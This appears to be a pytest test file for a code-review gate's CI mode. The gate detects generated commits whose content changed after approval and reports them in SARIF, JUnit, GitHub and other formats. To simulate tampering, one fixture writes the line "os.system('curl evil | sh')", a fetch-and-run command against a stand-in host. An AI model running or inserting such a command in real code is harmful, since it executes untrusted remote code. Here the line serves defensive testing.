"""CI mode: generated commits found by trailer, each re-hashed against its approval."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET

import pytest
from gate_helpers import allow_configured, git, make_plan, record_approval, sarif_schema

from hybridcode.cli.ci_cmd import run_ci_command
from hybridcode.ledger import ledger_path
from hybridcode.plan.store import PlanStore
from hybridcode.review.ci import run_ci
from hybridcode.review.gate import commit_plan
from hybridcode.vcs.commits import format_message, parse_review_trailer, parse_trailers
from hybridcode.vcs.diff import worktree_diff


@pytest.fixture(autouse=True)
def _trusted(repo):
    """The key the repository signs with is an allowed signer, committed on main (the base)."""
    allow_configured(repo, commit=True)


def _approved_commit(root, plan_id, files):
    wt = make_plan(root, plan_id, files)
    diff = worktree_diff(wt, PlanStore(root).meta(plan_id).base_commit)
    record_approval(root, diff, plan_id=plan_id)
    return wt, commit_plan(root, plan_id, merge=True)


@pytest.fixture
def history(repo):
    """main: initial → plan A (approved, valid) → plan B (approved, then amended: tampered)."""
    base = git(repo, "rev-parse", "HEAD").stdout.strip()
    _, a = _approved_commit(repo, "p-a", {"a.py": "A = 1\n"})
    wt_b = make_plan(repo, "p-b", {"b.py": "B = 1\n"})
    diff = worktree_diff(wt_b, PlanStore(repo).meta("p-b").base_commit)
    record_approval(repo, diff, plan_id="p-b")
    b = commit_plan(repo, "p-b")
    # after approval, someone slips a change into the commit and keeps its message
    (wt_b / "b.py").write_text("B = 1\nimport os; os.system('curl evil | sh')\n")
    git(wt_b, "commit", "-q", "--amend", "--no-verify", "-a", "-C", "HEAD")
    tampered = git(wt_b, "rev-parse", "HEAD").stdout.strip()
    git(repo, "merge", "-q", "--no-ff", "--no-edit", "hybrid/p-b")
    return repo, base, a.commit, tampered, b


def test_one_valid_and_one_tampered_commit(history):
    root, base, valid, tampered, _ = history
    result = run_ci(root, base, "HEAD", review_missing=False)
    assert [(c.sha, c.status) for c in result.commits] == [(valid, "valid"),
                                                           (tampered, "tampered")]
    bad = result.commits[1]
    assert bad.trailer_sha256 != bad.actual_sha256 and "changed after approval" in bad.detail
    assert result.exit_code == 1
    # only the valid part of the range: exit 0
    assert run_ci(root, base, valid, review_missing=False).exit_code == 0


def test_without_a_ledger_the_trailer_hash_decides(history):
    root, base, *_ = history
    ledger_path(root).unlink()
    for extra in ("-wal", "-shm"):
        ledger_path(root).with_name(f"ledger.db{extra}").unlink(missing_ok=True)
    result = run_ci(root, base, "HEAD", review_missing=False)
    assert result.policy == "signed"
    assert [c.status for c in result.commits] == ["valid", "tampered"]
    assert result.commits[0].signer == "t@example.com"


def test_commit_without_review_trailer_is_missing(repo):
    base = git(repo, "rev-parse", "HEAD").stdout.strip()
    (repo / "c.py").write_text("C = 1\n")
    git(repo, "add", "c.py")
    git(repo, "commit", "-q", "-m", format_message("sneak", [("Hybrid-Plan", "p-c")]))
    (repo / "d.py").write_text("D = 1\n")
    git(repo, "add", "d.py")
    git(repo, "commit", "-q", "-m", "hand-written, no trailers")
    result = run_ci(repo, base, "HEAD", review_missing=False, policy="hash")
    assert [(c.plan_id, c.status) for c in result.commits] == [("p-c", "missing")]
    result = run_ci(repo, base, "HEAD", review_missing=False)
    assert [(c.plan_id, c.status) for c in result.commits] == [("p-c", "unsigned")]


def test_unapproved_commit_is_reviewed_with_its_own_files(repo):
    base = git(repo, "rev-parse", "HEAD").stdout.strip()
    (repo / "broken.py").write_text("def broken(:\n    pass\n")
    git(repo, "add", "broken.py")
    git(repo, "commit", "-q", "-m", format_message("gen", [("Hybrid-Plan", "p-x")]))
    git(repo, "rm", "-q", "broken.py")  # HEAD no longer has the file: checks must see the commit
    git(repo, "commit", "-q", "-m", "remove")
    result = run_ci(repo, base, "HEAD", review_missing=True)
    [c] = result.commits
    assert c.status == "reviewed-rejected" and c.found == "unsigned"
    assert c.outcome.decision == "blocked"
    assert git(repo, "worktree", "list").stdout.count("\n") == 1  # temporary checkout removed


def test_reports_for_a_ci_run(history, capsys):
    import jsonschema

    root, base, *_ = history
    code = run_ci_command(base, "HEAD", "sarif", review_missing=False, repo=root)
    sarif = json.loads(capsys.readouterr().out)
    jsonschema.validate(sarif, sarif_schema())
    [result] = sarif["runs"][0]["results"]
    assert code == 1 and result["ruleId"] == "gate/approval"
    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "b.py"

    assert run_ci_command(base, "HEAD", "junit", review_missing=False, repo=root) == 1
    suites = ET.fromstring(capsys.readouterr().out)
    assert suites.get("tests") == "2" and suites.get("failures") == "1"

    run_ci_command(base, "HEAD", "github", review_missing=False, repo=root)
    out = capsys.readouterr().out
    assert out.count("::error") == 2 and "file=b.py,line=1" in out

    run_ci_command(base, "HEAD", "json", review_missing=False, repo=root)
    data = json.loads(capsys.readouterr().out)
    assert [c["status"] for c in data["commits"]] == ["valid", "tampered"]

    run_ci_command(base, "HEAD", "markdown", review_missing=False, repo=root)
    assert "| tampered |" in capsys.readouterr().out


def test_unknown_base_is_a_usage_error(repo):
    from hybridcode.errors import UsageError

    with pytest.raises(UsageError) as info:
        run_ci(repo, "origin/nope", "HEAD")
    assert "fetch" in str(info.value)


@pytest.mark.parametrize(("message", "expected"), [
    ("subject\n\nbody\n\nHybrid-Plan: p1\nHybrid-Review: approved " + "a" * 64 + " by m\n",
     {"Hybrid-Plan": "p1", "Hybrid-Review": "approved " + "a" * 64 + " by m"}),
    ("subject\n\nhybrid-plan: p2\n", {"Hybrid-Plan": "p2"}),
    ("only a subject: with a colon\n", {}),
    ("subject\n\nprose in the last paragraph\nHybrid-Plan: p3\n", {}),
    ("s\n\nHybrid-Implementer: a,\n  b\n", {"Hybrid-Implementer": "a, b"}),
])
def test_parse_trailers(message, expected):
    assert parse_trailers(message) == expected


def test_review_trailer_values():
    sha = "b" * 64
    assert parse_review_trailer(f"approved {sha} by claude-opus-5-5") == (sha, "claude-opus-5-5")
    assert parse_review_trailer("approved abc by x") is None
    assert parse_review_trailer(None) is None
    assert "\n" not in format_message("s", [("K", "multi\nline")]).split("\n\n")[1].strip()


def test_a_commits_result_points_at_a_file_with_lines(repo):
    """A generated commit that moves an empty file first in its diff: the approval result
    points at line 1 of a file that has one (issue 26)."""
    from typer.testing import CliRunner

    from hybridcode.cli.app import app

    (repo / "pkg_old").mkdir()
    (repo / "pkg_old" / "__init__.py").write_bytes(b"")
    (repo / "zz.py").write_text("X = 1\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    base = git(repo, "rev-parse", "HEAD").stdout.strip()
    git(repo, "mv", "pkg_old", "pkg")
    (repo / "zz.py").write_text("X = 2\n")
    git(repo, "commit", "-q", "-am", format_message("gen", [("Hybrid-Plan", "p-m")]))
    for fmt in ("github", "sarif"):
        result = CliRunner().invoke(app, ["review", "--base", base, "--ci", "--no-review",
                                          "--format", fmt, "--repo", str(repo)])
        assert result.exit_code == 1, result.output
        if fmt == "github":
            assert "::error file=zz.py,line=1,title=unsigned approval in" in result.stdout
        else:
            import jsonschema

            sarif = json.loads(result.stdout)
            jsonschema.validate(sarif, sarif_schema())
            [found] = sarif["runs"][0]["results"]
            assert found["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == \
                "zz.py"


def test_a_verdict_from_the_ci_cache_keeps_its_figures_and_notes(repo, claude, tmp_path):
    """The second CI run over the same range answers from the verdict this CI stored: the
    figures and the reason it was rejected come with it (issue 26)."""
    from typer.testing import CliRunner

    from hybridcode.cli.app import app
    from review_helpers import verdict

    base = git(repo, "rev-parse", "HEAD").stdout.strip()
    (repo / ".hybrid").mkdir(exist_ok=True)
    (repo / ".hybrid" / "config.toml").write_text("[review]\nmax_parts = 2\n")
    for n in range(3):  # three new files, each one hunk over the reviewer's per-call budget
        (repo / f"data{n}.txt").write_text("".join(f"row {n}-{i} of the table\n"
                                                   for i in range(6_000)))
    git(repo, "add", "data0.txt", "data1.txt", "data2.txt")
    git(repo, "commit", "-q", "-m", format_message("gen", [("Hybrid-Plan", "p-big")]))
    claude.responder = lambda body: json.dumps(verdict(ids=None) | {"grades": []})
    args = ["review", "--base", base, "--ci", "--policy", "reviewed", "--cache",
            str(tmp_path / "verdicts"), "--format", "json", "--repo", str(repo)]
    first = CliRunner().invoke(app, args)
    assert first.exit_code == 1, first.output
    calls = len(claude.requests)
    again = CliRunner().invoke(app, [*args, "--no-review"])
    assert again.exit_code == 1, again.output
    assert len(claude.requests) == calls
    [before] = json.loads(first.stdout)["commits"]
    [after] = json.loads(again.stdout)["commits"]
    assert after["cached_verdict"] and after["status"] == "reviewed-rejected"
    assert after["figures"] == before["figures"]
    assert {k: after["figures"][k] for k in ("calls", "parts", "parts_skipped", "cut_hunks")} \
        == {"calls": 2, "parts": 3, "parts_skipped": 1, "cut_hunks": 2}
    assert "1 of 3 parts of the diff were not reviewed" in after["detail"]
